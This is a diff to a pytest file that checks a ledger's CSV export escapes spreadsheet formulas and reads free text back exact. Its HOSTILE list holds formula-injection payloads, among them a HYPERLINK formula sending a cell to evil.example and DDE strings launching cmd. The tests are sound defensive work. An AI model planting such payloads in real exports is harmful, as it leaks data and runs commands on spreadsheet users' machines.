@@ -1,6 +1,7 @@
 """CSV formula injection (issue 23): identifiers a spreadsheet would run as a formula are refused where the ledger
 reads them; free text reaches the CSV files escaped the way OWASP recommends (a ' before it), on both CSV paths
-(Python, and PostgreSQL's COPY) byte for byte, while the JSON files keep the exact text and columns.json says so."""
+(Python, and PostgreSQL's COPY) byte for byte. A text beginning with ' gets one more, so the exact text reads back
+(format 2 holds each kind only as CSV, issue 26), and columns.json says how."""
 
 import csv
 import datetime
@@ -12,11 +13,11 @@ from decimal import Decimal
 import pytest
 from django.db import connection
 
-from cardroom import bundle, keys
+from cardroom import bundle, bundle_read, keys
 from exports import build, collect
 from fees.models import CollectionEntry, RoundOfPlay
 
-from tests.exports.test_export_json_stream import _Zip
+from tests.exports.test_export_streaming import _Zip
 from tests.exports.test_exports import month  # noqa: F401  (the fixture)
 
 pytestmark = pytest.mark.django_db
@@ -24,7 +25,7 @@ ENTRIES = "/api/v1/ledger/entries/"
 # Free text beginning with each formula start. (A carriage return leads too, but Python's csv module leaves a cell
 # holding one unquoted where COPY quotes it, so it is checked apart: test_a_carriage_return_start_is_escaped.)
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
+           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "'quoted already", "''=twice"]
 
 
 def row(table, **changes):
@@ -68,7 +69,7 @@ def test_a_batch_key_or_round_reference_a_spreadsheet_would_run_is_refused(api, 
     assert api.post(ENTRIES, row(month["table"], reference="H-9=1", player="p+1"), format="json").status_code == 201
 
 
-# -- free text is escaped in CSV, exact in JSON --------------------------------------------------------------------
+# -- free text is escaped in the CSV, and reads back exact -------------------------------------------------------
 
 def stored_hostile(month):  # noqa: F811
     """Rows recorded before the identifiers were checked (or by another door), and corrections whose reasons hold
@@ -84,13 +85,19 @@ def stored_hostile(month):  # noqa: F811
     return made
 
 
-def files(kind_name, scope, monkeypatch, from_postgresql):
+def written(kind_name, scope, monkeypatch, from_postgresql):
+    """The CSV file of a kind, as the Python path or PostgreSQL's COPY writes it."""
     monkeypatch.setattr(collect, "use_copy", lambda: from_postgresql)
     kind = next(k for k in collect.KINDS if k.name == kind_name)
     out = _Zip()
-    build._write_csv(out, kind, scope, build.Progress(2, None))
-    build._write_json(out, kind, scope, build.Progress(2, None))
-    return out.files[f"{kind_name}.csv"].getvalue(), out.files[f"{kind_name}.json"].getvalue()
+    build._write_csv(out, kind, scope, build.Progress(1, None))
+    return out.files[f"{kind_name}.csv"].getvalue()
+
+
+def read_back(kind_name, csv_bytes):
+    """The rows as a reader of the bundle gets them: columns.json's types, the escape undone."""
+    columns = bundle_read.columns_of(json.dumps(build.columns_document()), kind_name)
+    return bundle_read.records(f"{kind_name}.csv", csv_bytes.decode(), columns)
 
 
 def scope_of(people):
@@ -98,27 +105,28 @@ def scope_of(people):
                                end=datetime.date(2026, 3, 31)).freeze()
 
 
-def check_escaped(csv_bytes, json_bytes):
-    rows = list(csv.DictReader(io.StringIO(csv_bytes.decode())))[-len(HOSTILE):]
-    records = json.loads(json_bytes)[-len(HOSTILE):]
-    for text, cells, record in zip(HOSTILE, rows, records):
+def check_escaped(csv_bytes):
+    cells = list(csv.DictReader(io.StringIO(csv_bytes.decode())))[-len(HOSTILE):]
+    records = read_back("ledger_entries", csv_bytes)[-len(HOSTILE):]
+    for text, raw, record in zip(HOSTILE, cells, records):
         for column in ("reference", "player", "reason"):
-            assert cells[column] == "'" + record[column], column  # the CSV's text, escaped
-        assert record["reason"] == text and record["player"] == text[:60]  # the JSON's, exact
-        assert cells["amount"] == record["amount"] == "0.50"
-        assert cells["idempotency_key"].startswith("old-") and cells["payer"] == "player"
+            assert raw[column] == "'" + record[column], column  # the CSV's text, escaped
+        assert record["reason"] == text and record["player"] == text[:60]  # read back, exact
+        assert raw["amount"] == record["amount"] == "0.50" and record["seat"] is None
+        assert raw["idempotency_key"].startswith("old-") and raw["payer"] == "player"
 
 
-def test_free_text_is_escaped_in_the_csv_and_exact_in_the_json(people, month, monkeypatch):  # noqa: F811
+def test_free_text_is_escaped_in_the_csv_and_reads_back_exact(people, month, monkeypatch):  # noqa: F811
     stored_hostile(month)
     scope = scope_of(people)
-    check_escaped(*files("ledger_entries", scope, monkeypatch, False))
+    check_escaped(written("ledger_entries", scope, monkeypatch, False))
     # A number is never escaped, a negative one included: collected short of expected.
-    (day,) = csv.DictReader(io.StringIO(files("fees_by_table_day", scope, monkeypatch, False)[0].decode()))
+    (day,) = csv.DictReader(io.StringIO(written("fees_by_table_day", scope, monkeypatch, False).decode()))
     assert day["difference"].startswith("-") and day["difference"] == str(Decimal(day["collected"])
                                                                           - Decimal(day["expected"]))
     assert build.csv_cell("-5.00") == "'-5.00" and build.csv_cell(Decimal("-5.00")) == "-5.00"
-    assert build.csv_cell("") == "" and build.csv_cell("a=1") == "a=1"
+    assert build.csv_cell("") == "" and build.csv_cell("a=1") == "a=1" and build.csv_cell("a'") == "a'"
+    assert build.csv_cell("'a") == "''a"
 
 
 @pytest.mark.services
@@ -126,26 +134,41 @@ def test_the_csv_from_postgresql_is_the_python_paths_byte_for_byte(people, month
     assert connection.vendor == "postgresql", "this test needs PostgreSQL (bin/test's second pass)"
     stored_hostile(month)
     first = CollectionEntry.objects.order_by("id").first()
-    RoundOfPlay.objects.create(establishment=first.establishment, table=first.table, gaming_day=first.gaming_day,
-                               reference="=1+1", played_at=first.collected_at, facts={}, schedule_code="+GEGA",
-                               posting=month["posting"],
-                               schedule_version=1, option_number=1, expected_total="0.00", currency="USD")
+    # Fee lines as the ledger stores them (fees.engine.compact.LINE_FIELDS): free text, a note over two lines, a
+    # negative fee, a count measured, and a line with neither tier nor measure.
+    lines = [["player", "=p1", "player", "base_wager", 1, "150.00", "1.00", "note with\nnew line, \"quoted\""],
+             ["banker", None, "banker", "players", None, 7, "-0.50", "'quoted"], ["house", "", "drop", "pot", None,
+                                                                                   None, "0.00"]]
+    hostile = RoundOfPlay.objects.create(
+        establishment=first.establishment, table=first.table, gaming_day=first.gaming_day, reference="=1+1",
+        played_at=first.collected_at, facts={}, schedule_code="+GEGA", posting=month["posting"], schedule_version=1,
+        option_number=1, expected_total="0.50", currency="USD", fee_lines=json.dumps(lines))
     scope = scope_of(people)
-    for name in ("ledger_entries", "rounds"):
-        streamed = files(name, scope, monkeypatch, True)
-        python = files(name, scope, monkeypatch, False)
-        assert streamed[0] == python[0], name  # CSV
-        assert streamed[1] == python[1], name  # JSON
-    check_escaped(*files("ledger_entries", scope, monkeypatch, True))
-    rounds_csv, rounds_json = files("rounds", scope, monkeypatch, True)
+    for name in ("ledger_entries", "rounds", "round_fee_lines"):
+        assert written(name, scope, monkeypatch, True) == written(name, scope, monkeypatch, False), name
+    fee_lines = [line for line in read_back("round_fee_lines", written("round_fee_lines", scope, monkeypatch, True))
+                 if line["round"] == hostile.pk]
+    assert [(f["line"], f["player"], f["tier"], f["measured"], f["fee"], f["note"]) for f in fee_lines] == [
+        (1, "=p1", 1, "150.00", "1.00", 'note with\nnew line, "quoted"'), (2, "", None, "7", "-0.50", "'quoted"),
+        (3, "", None, None, "0.00", "")]
+    kind = next(k for k in collect.KINDS if k.name == "round_fee_lines")
+    counted = []
+    for from_postgresql in (True, False):  # a row a line, the note's new line notwithstanding
+        monkeypatch.setattr(collect, "use_copy", lambda: from_postgresql)
+        counted.append(build._write_csv(_Zip(), kind, scope, build.Progress(1, None)))
+    assert counted[0] == counted[1] == len(read_back("round_fee_lines", written("round_fee_lines", scope,
+                                                                                monkeypatch, False)))
+    check_escaped(written("ledger_entries", scope, monkeypatch, True))
+    rounds_csv = written("rounds", scope, monkeypatch, True)
     assert b",'=1+1," in rounds_csv
-    assert b",'+GEGA," in rounds_csv and json.loads(rounds_json)[-1]["schedule"] == "+GEGA"
+    assert b",'+GEGA," in rounds_csv and read_back("rounds", rounds_csv)[-1]["schedule"] == "+GEGA"
     from psycopg import sql
 
-    with connection.cursor() as cursor:  # a carriage return first is escaped as the Python path does it
-        cursor.execute(sql.SQL("SELECT {}").format(sql.SQL(collect.ESCAPED).format(
-            sql.Literal("\r=1+1"), sql.SQL(", ").join(sql.Literal(c) for c in collect.FORMULA_STARTS))))
-        assert cursor.fetchone() == (build.csv_cell("\r=1+1"),)
+    with connection.cursor() as cursor:  # a carriage return or a quote first is escaped as the Python path does it
+        for text in ("\r=1+1", "'=1"):
+            cursor.execute(sql.SQL("SELECT {}").format(sql.SQL(collect.ESCAPED).format(
+                sql.Literal(text), sql.SQL(", ").join(sql.Literal(c) for c in collect.ESCAPE_STARTS))))
+            assert cursor.fetchone() == (build.csv_cell(text),)
 
 
 def test_columns_json_says_which_cells_are_escaped_and_the_bundle_verifies(people, month, tmp_path):  # noqa: F811
@@ -156,9 +179,12 @@ def test_columns_json_says_which_cells_are_escaped_and_the_bundle_verifies(peopl
     assert bundle.verify(tmp_path / "b.zip", keys.public_key()).ok
     with zipfile.ZipFile(tmp_path / "b.zip") as zf:
         columns = json.loads(zf.read("columns.json"))
+        entries = bundle_read.records("ledger_entries.csv", zf.read("ledger_entries.csv").decode(),
+                                      columns["ledger_entries"]["columns"])
     said = columns["ledger_entries"]["csv_escaping"]
     assert "single quote (') before it" in said and "=, +, -, @, a tab or a carriage return" in said
-    assert "JSON file holds the exact text" in said and "-5.00" in said
+    assert "take the first ' off any text cell that begins with one" in said and "-5.00" in said
+    assert [e["reason"] for e in entries[-len(HOSTILE):]] == HOSTILE
 
 
 def test_a_carriage_return_start_is_escaped():
